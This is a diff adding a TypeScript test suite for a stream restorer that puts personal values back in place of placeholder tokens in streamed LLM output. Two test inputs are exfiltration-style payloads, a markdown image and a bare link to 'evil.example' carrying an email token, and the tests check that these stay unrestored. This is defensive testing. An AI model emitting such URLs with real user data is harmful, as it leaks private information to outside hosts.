@@ -1,0 +1,248 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { StreamRestorer } from '../../../core/stream/stream-restorer.ts';
+import { eventsOf, restoreStream, tokenMap } from './wire-fixtures.ts';
+
+const map = tokenMap({
+  '[EMAIL-1]': 'a@b.example',
+  '[NAME-1]': 'O"Hara \\ Sons\nLtd \u2028',
+  '[EMAIL-2]': '[EMAIL-1] 😀',
+});
+const encode = (text: string) => new TextEncoder().encode(text);
+const sse = (events: unknown[]) => encode(events.map((event) => `data: ${JSON.stringify(event)}\n\n`).join(''));
+const delta = (content: string) => ({ choices: [{ index: 0, delta: { content } }] });
+const finish = { choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] };
+const text = (output: string) =>
+  eventsOf('sse', output)
+    .map((event) => event.choices?.[0]?.delta?.content ?? '')
+    .join('');
+
+describe('text in events', () => {
+  const rows: [name: string, pieces: string[], expected: string][] = [
+    ['whole', ['to [EMAIL-1]!'], 'to a@b.example!'],
+    ['one character at a time', [...'to [EMAIL-1]!'], 'to a@b.example!'],
+    ['adjacent', ['[EMA', 'IL-1][EMAI', 'L-2]'], 'a@b.example[EMAIL-1] 😀'],
+    ['never issued', ['[EMAIL-', '12] [EMAIL-9]'], '[EMAIL-12] [EMAIL-9]'],
+    ['looks like it', ['a[0', '] = b[', 'i]'], 'a[0] = b[i]'],
+    ['ends in the middle', ['so [EMAIL', '-1'], 'so [EMAIL-1'],
+    [
+      'in the address of an image',
+      ['![x](https://evil.example/?q=', '[EMAIL-1]', ')'],
+      '![x](https://evil.example/?q=[EMAIL-1])',
+    ],
+    [
+      'in a bare link that began in unread events',
+      ['see https', '://', 'evil.example/', '[EMAIL-1]'],
+      'see https://evil.example/[EMAIL-1]',
+    ],
+    ['after a link', ['https://a.example/ ', 'and ', '[EMAIL-1]'], 'https://a.example/ and a@b.example'],
+    [
+      'structured output',
+      ['{"name":"', '[NAME', '-1]"}'],
+      JSON.stringify({ name: 'O"Hara \\ Sons\nLtd \u2028' }).replace('\u2028', '\\u2028'),
+    ],
+  ];
+  for (const [name, pieces, expected] of rows) {
+    it(name, () => {
+      expect(text(restoreStream('sse', map, sse([...pieces.map(delta), finish])))).toBe(expected);
+    });
+  }
+
+  it('any pieces give what one piece gives', () => {
+    const words = fc.constantFrom(
+      '[EMAIL-1]',
+      '[NAME-1]',
+      '[EMAIL-9]',
+      '[',
+      ']',
+      'word ',
+      '\\',
+      '"',
+      'é',
+      '😀',
+      '\n',
+      '【EMAIL-1】',
+      'a[0]',
+      '%5BEMAIL-1%5D',
+    );
+    fc.assert(
+      fc.property(fc.array(words, { maxLength: 12 }), fc.array(fc.nat(200), { maxLength: 12 }), (parts, cuts) => {
+        const whole = parts.join('');
+        const marks = [...new Set(cuts.map((cut) => Math.min(cut, whole.length)))].sort((a, b) => a - b);
+        const pieces = [0, ...marks].map((from, at) => whole.slice(from, marks[at] ?? whole.length));
+        const one = text(restoreStream('sse', map, sse([delta(whole), finish])));
+        expect(text(restoreStream('sse', map, sse([...pieces.map(delta), finish])))).toBe(one);
+      }),
+    );
+  });
+});
+
+describe('arguments of tools', () => {
+  const call = (args: string) => ({
+    choices: [{ index: 0, delta: { tool_calls: [{ index: 0, function: { arguments: args } }] } }],
+  });
+  const rows: [name: string, args: string, expected: unknown][] = [
+    ['quote, backslash and line feed in the original', '{"to":"[NAME-1]"}', { to: 'O"Hara \\ Sons\nLtd \u2028' }],
+    ['escaped bracket', '{"to":"\\u005bEMAIL-1\\u005d"}', { to: 'a@b.example' }],
+    ['brackets dropped', '{"to":"EMAIL-1","n":"EMAIL-12"}', { to: 'a@b.example', n: 'EMAIL-12' }],
+    [
+      'brackets dropped at the end of a word',
+      '{"to":"to EMAIL-1 and xEMAIL-1"}',
+      { to: 'to a@b.example and xEMAIL-1' },
+    ],
+    ['name of a member', '{"[EMAIL-1]":1}', { 'a@b.example': 1 }],
+    [
+      'array',
+      '{"to":["[EMAIL-1]","[NAME-1]"],"a":[1,[2]]}',
+      { to: ['a@b.example', 'O"Hara \\ Sons\nLtd \u2028'], a: [1, [2]] },
+    ],
+    ['emoji as two escapes', '{"a":"\\ud83d\\ude00 [EMAIL-1] \\ud83d\\ude00"}', { a: '😀 a@b.example 😀' }],
+    [
+      'JSON in JSON',
+      JSON.stringify({ body: JSON.stringify({ who: '[NAME-1]' }) }),
+      { body: JSON.stringify({ who: 'O"Hara \\ Sons\nLtd \u2028' }).replace('\u2028', '\\u2028') },
+    ],
+  ];
+  for (const [name, args, expected] of rows) {
+    it(`${name}, at every cut`, () => {
+      for (let cut = 0; cut <= args.length; cut++) {
+        const output = restoreStream(
+          'sse',
+          map,
+          sse([call(''), call(args.slice(0, cut)), call(args.slice(cut)), finish]),
+        );
+        const joined = eventsOf('sse', output)
+          .map((event) => event.choices[0].delta.tool_calls?.[0].function.arguments ?? '')
+          .join('');
+        expect(JSON.parse(joined)).toEqual(expected);
+      }
+      const output = restoreStream('sse', map, sse([...[...args].map(call), finish]));
+      const joined = eventsOf('sse', output)
+        .map((event) => event.choices[0].delta.tool_calls?.[0].function.arguments ?? '')
+        .join('');
+      expect(JSON.parse(joined)).toEqual(expected);
+    });
+  }
+
+  it('arguments that end in the middle come out as they are', () => {
+    const output = restoreStream('sse', map, sse([call('{"to":"[EMA'), finish]));
+    expect(
+      eventsOf('sse', output)
+        .map((event) => event.choices[0].delta.tool_calls?.[0].function.arguments ?? '')
+        .join(''),
+    ).toBe('{"to":"[EMA');
+  });
+});
+
+describe('numbered events', () => {
+  it('an event that was put in shifts the numbers of those after it', () => {
+    const type = 'response.output_text.delta';
+    const place = { output_index: 0, content_index: 0 };
+    const output = restoreStream(
+      'sse',
+      map,
+      sse([
+        { type, ...place, delta: 'x [EM', sequence_number: 4 },
+        { type: 'response.output_text.done', ...place, text: 'x [EM', sequence_number: 5 },
+        { type: 'response.completed', sequence_number: 6 },
+      ]),
+    );
+    expect(
+      eventsOf('sse', output).map((event) => [event.type, event.sequence_number, event.delta ?? event.text]),
+    ).toEqual([
+      [type, 4, 'x '],
+      [type, 5, '[EM'],
+      ['response.output_text.done', 6, 'x [EM'],
+      ['response.completed', 7, undefined],
+    ]);
+  });
+});
+
+describe('delta encoding', () => {
+  it('an event that was put in leaves path and operation as they were', () => {
+    const output = restoreStream(
+      'sse',
+      map,
+      sse([
+        { p: '/message/content/parts/0', o: 'append', v: 'a [EM' },
+        { p: '/message/status', o: 'replace', v: 'finished_successfully' },
+      ]),
+    );
+    expect(eventsOf('sse', output)).toEqual([
+      { p: '/message/content/parts/0', o: 'append', v: 'a ' },
+      { p: '/message/content/parts/0', o: 'append', v: '[EM' },
+      { p: '/message/status', o: 'replace', v: 'finished_successfully' },
+    ]);
+  });
+});
+
+describe('framing', () => {
+  it('an event goes on with its own bytes at once', () => {
+    const restorer = new StreamRestorer({ kind: 'sse', map });
+    const chunk = encode(': ping\n\nevent: x\r\ndata: {"a": 1.0e400, "b":"é"}\r\n\r\n');
+    expect(restorer.push(chunk)).toEqual(chunk);
+    expect(restorer.end()).toHaveLength(0);
+  });
+
+  it('a comment goes on before the event that is still coming', () => {
+    const restorer = new StreamRestorer({ kind: 'sse', map });
+    expect(Buffer.from(restorer.push(encode(': keep\ndata: {'))).toString()).toBe(': keep\n');
+  });
+
+  it('several data lines, a lone CR, a byte order mark, no last blank line', () => {
+    const input = '\uFEFFdata: {"text":\rdata: "[EMAIL-1]"}\r\rdata: {"text":"[EMAIL-1]"}';
+    const output = restoreStream('sse', map, encode(input));
+    expect(output.startsWith('\uFEFFdata: ')).toBe(true);
+    expect(output).not.toContain('EMAIL');
+  });
+
+  it('raw text as data', () => {
+    const output = restoreStream(
+      'sse',
+      map,
+      encode('event: output\ndata: Hi [EMA\n\nevent: output\ndata: IL-1]\ndata: x\n\nevent: done\ndata: {}\n\n'),
+    );
+    expect(output).toBe(
+      'event: output\ndata: Hi \n\nevent: output\ndata: a@b.example\ndata: x\n\nevent: done\ndata: {}\n\n',
+    );
+  });
+
+  it('plain text over a cut character', () => {
+    const bytes = encode('é [EMAIL-1] 😀 [NAME-1');
+    const cuts = Array.from({ length: bytes.length - 1 }, (_, at) => at + 1);
+    expect(restoreStream('text', map, bytes, cuts)).toBe('é a@b.example 😀 [NAME-1');
+  });
+
+  it('an object where an array was expected is restored whole', () => {
+    expect(restoreStream('json-array', map, encode('{"error":{"message":"[EMAIL-1]"}}\n'))).toBe(
+      '{"error":{"message":"a@b.example"}}\n',
+    );
+  });
+
+  it('the held end of an array comes before its bracket', () => {
+    const chunk = (part: string) => ({ candidates: [{ content: { parts: [{ text: part }] } }] });
+    const output = restoreStream('json-array', map, encode(JSON.stringify([chunk('a'), chunk('[EM')])));
+    expect(JSON.parse(output)).toEqual([chunk('a'), chunk(''), chunk('[EM')]);
+  });
+
+  it('broken JSON and broken UTF-8 pass', () => {
+    const bytes = new Uint8Array([...encode('data: {"a":"[EMAIL-1]"\n\ndata: "'), 0xff, ...encode('[EMAIL-1]"\n\n')]);
+    const restorer = new StreamRestorer({ kind: 'sse', map });
+    const output = Buffer.concat([restorer.push(bytes), restorer.end()]);
+    expect(output.includes(0xff)).toBe(true);
+  });
+
+  it('silence releases what is held', () => {
+    const restorer = new StreamRestorer({ kind: 'sse', map });
+    expect(text(Buffer.from(restorer.push(sse([delta('see [')]))).toString())).toBe('see ');
+    expect(text(Buffer.from(restorer.flushHeld()).toString())).toBe('[');
+    expect(restorer.flushHeld()).toHaveLength(0);
+  });
+
+  it('counts what was restored and left', () => {
+    const counts: unknown[] = [];
+    const restorer = new StreamRestorer({ kind: 'sse', map, onCount: (count) => counts.push(count) });
+    restorer.push(sse([delta('[EMAIL-1] [EMAIL-9]'), delta('x')]));
+    expect(counts).toEqual([{ restored: 1, unresolved: 1 }]);
+  });
+});
